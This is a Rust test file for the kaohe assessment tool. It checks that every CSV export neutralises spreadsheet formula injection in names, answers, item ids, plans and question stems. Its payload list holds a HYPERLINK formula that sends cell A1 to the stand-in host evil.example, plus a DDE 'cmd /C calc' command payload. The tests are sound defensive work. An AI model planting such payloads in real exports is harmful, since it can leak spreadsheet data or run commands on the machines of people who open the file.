//! Every CSV the core writes goes through the one writer (`kaohe::csv::CsvWriter`), so a cell
//! that starts with a formula trigger (`=`, `+`, `-`, `@`, tab, CR) reaches the spreadsheet as
//! text. One test per export puts text starting with each trigger where a person's text lands
//! (a candidate's name and answer, an item id, a plan's name, a task's action, a stem) and reads
//! the file back cell by cell: each such cell is written with a leading apostrophe, the numbers
//! the product writes (including negative ones) are left as numbers, and reading the file back
//! with the product's own reader returns the original text.

use kaohe::analytics::{analyse_items, item_table_csv, synthetic_matrix, AnalysisOptions};
use kaohe::csv::{read_csv, write_csv};
use kaohe::format::decode_json;
use kaohe::interop::csv::import_csv;
use kaohe::interop::export::{attempt_csv, export_csv, results_csv};
use kaohe::interop::xapi::XapiAttempt;
use kaohe::interop::ImportOptions;
use kaohe::plan::export::csv::{plan_csv, schedule_csv};
use kaohe::plan::{Catalog, PlanGenerator, PlanSettings};
use kaohe::Locale;
use serde_json::Value;

/// The name from issue #16: a live link that would send the sheet's cell A1 away.
const EVIL_NAME: &str = r#"=HYPERLINK("http://evil.example/?q="&A1,"查看成绩")"#;

/// Text starting with each trigger.
fn payloads() -> Vec<String> {
    vec![
        EVIL_NAME.to_string(),
        "=1+1".to_string(),
        "+1+cmd|' /C calc'!A0".to_string(),
        "-2+3".to_string(),
        "@SUM(1,2)".to_string(),
        "\t=1+1".to_string(),
        "\r=1+1".to_string(),
    ]
}

/// The raw cells of CSV text, split by hand (RFC 4180, no unguarding), so the test sees exactly
/// what a spreadsheet would.
fn raw_cells(text: &str) -> Vec<String> {
    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
    let mut cells = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, _) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => cells.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => cells.push(std::mem::take(&mut cell)),
            (false, _) => cell.push(c),
        }
    }
    cells
}

/// No raw cell starts with a trigger unless it is a plain number; every payload is present with
/// its apostrophe.
fn assert_neutralised(text: &str, payloads: &[String]) {
    let cells = raw_cells(text);
    for cell in &cells {
        if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert!(
                cell.trim_end_matches('%').parse::<f64>().is_ok()
                    && !cell.contains(char::is_alphabetic),
                "a live formula cell: {cell:?}"
            );
        }
    }
    for payload in payloads {
        let guarded = format!("'{payload}");
        assert!(
            cells.iter().any(|c| c.contains(&guarded)),
            "{payload:?} is not written as {guarded:?}"
        );
    }
}

fn attempt() -> XapiAttempt {
    decode_json(include_str!("fixtures/interop/attempt.json")).unwrap()
}

#[test]
fn the_writer_neutralises_every_trigger_and_keeps_numbers() {
    let p = payloads();
    let text = write_csv(&[p.clone(), vec!["-3.5".into(), "+2".into(), "-25%".into()]]);
    assert_neutralised(&text, &p);
    assert!(text.ends_with("\r\n-3.5,+2,-25%\r\n"));
    // Read back, each cell is the original (a CR in a cell reads as LF, as documented).
    let back: Vec<String> = p.iter().map(|c| c.replace('\r', "\n")).collect();
    assert_eq!(read_csv(&text).unwrap()[0], back);
}

#[test]
fn results_csv_neutralises_names_and_answers() {
    let mut attempts = Vec::new();
    for (i, payload) in payloads().into_iter().enumerate() {
        let mut a = attempt();
        a.actor.name = Some(payload.clone());
        a.exam.name = payload.clone();
        a.items[0].response = Some(payload.clone());
        a.items[1].stem = payload;
        a.items[2].raw_score = -1.5 * (i as f64 + 1.0);
        attempts.push(a);
    }
    let bank = serde_json::json!({});
    let records: Vec<_> = attempts.iter().map(|a| (a.clone(), &bank)).collect();
    let text = results_csv(&records, 480);
    assert_neutralised(&text, &payloads());
    // The candidate from the issue: the name cell holds the formula as text.
    let cells = raw_cells(&text);
    assert!(cells.contains(&format!("'{EVIL_NAME}")));
    // Negative points written by the product stay numbers.
    assert!(cells.contains(&"-1.5".to_string()));
    // Read back by the product, the original text returns.
    let rows = read_csv(&text).unwrap();
    assert_eq!(rows[1][1], EVIL_NAME);
}

#[test]
fn attempt_csv_neutralises_answers_and_stems() {
    let mut a = attempt();
    for (item, payload) in a.items.iter_mut().zip(payloads()) {
        item.response = Some(payload.clone());
        item.stem = payload;
    }
    assert_neutralised(&attempt_csv(&a, None), &payloads());
}

#[test]
fn item_analysis_csv_neutralises_item_ids() {
    let p = payloads();
    let mut report = analyse_items(
        &synthetic_matrix(40, p.len(), 3),
        &AnalysisOptions::default(),
    )
    .unwrap();
    for (item, payload) in report.items.iter_mut().zip(&p) {
        item.item_id = payload.clone();
    }
    for locale in [Locale::ZhCn, Locale::En] {
        assert_neutralised(&item_table_csv(&report, locale), &p);
    }
}

fn plan() -> kaohe::plan::Plan {
    let g = PlanGenerator::new(
        Catalog::default_catalog().unwrap(),
        PlanSettings::default(),
        "2026-11-23",
    )
    .unwrap();
    g.generate(
        &decode_json(include_str!("fixtures/plan/evaluation_li_na.json")).unwrap(),
        Some("E1001-2026Q4"),
    )
    .unwrap()
}

#[test]
fn plan_csv_neutralises_names_and_goals() {
    let p = payloads();
    let mut plan = plan();
    plan.name = p[0].clone();
    plan.role = p[1].clone();
    plan.person_id = p[2].clone();
    for (goal, payload) in plan.goals.iter_mut().zip(p.iter().skip(3)) {
        goal.text.zh = payload.clone();
        goal.text.en = payload.clone();
    }
    assert!(
        plan.goals.len() >= p.len() - 3,
        "enough goals to carry every payload"
    );
    for locale in [Locale::ZhCn, Locale::En] {
        assert_neutralised(&plan_csv(&plan, locale), &p);
    }
}

#[test]
fn schedule_csv_neutralises_tasks() {
    let p = payloads();
    let mut plan = plan();
    assert!(plan.tasks.len() >= p.len());
    for (task, payload) in plan.tasks.iter_mut().zip(&p) {
        task.evidence.zh = payload.clone();
        task.evidence.en = payload.clone();
    }
    for locale in [Locale::ZhCn, Locale::En] {
        assert_neutralised(&schedule_csv(&plan, locale), &p);
    }
}

#[test]
fn bank_csv_export_neutralises_stems_and_imports_back_unchanged() {
    let mut bank: Value = serde_json::from_str(include_str!("../www/samples/bank.json")).unwrap();
    let p = payloads();
    let items = bank["items"].as_array_mut().unwrap();
    let mut changed = Vec::new();
    for (item, payload) in items.iter_mut().filter(|i| i["type"] == "single").zip(&p) {
        item["stem"] = Value::String(payload.clone());
        changed.push(item["id"].clone());
    }
    assert_eq!(changed.len(), p.len());
    let export = export_csv(&bank);
    assert_neutralised(&export.text, &p);
    let options = ImportOptions {
        bank_id: bank["id"].as_str().map(String::from),
        title: bank["title"].as_str().map(String::from),
        ..Default::default()
    };
    let back = import_csv(export.text.as_bytes(), &options).unwrap();
    let back = back.bank.expect("the bank imports back");
    for (id, payload) in changed.iter().zip(&p) {
        let item = back["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["id"] == *id)
            .unwrap_or_else(|| panic!("item {id} imported back"));
        // CR inside a cell reads back as LF (see kaohe::csv); the rest is exact.
        assert_eq!(
            item["stem"].as_str().unwrap(),
            payload.replace('\r', "\n").trim()
        );
    }
}
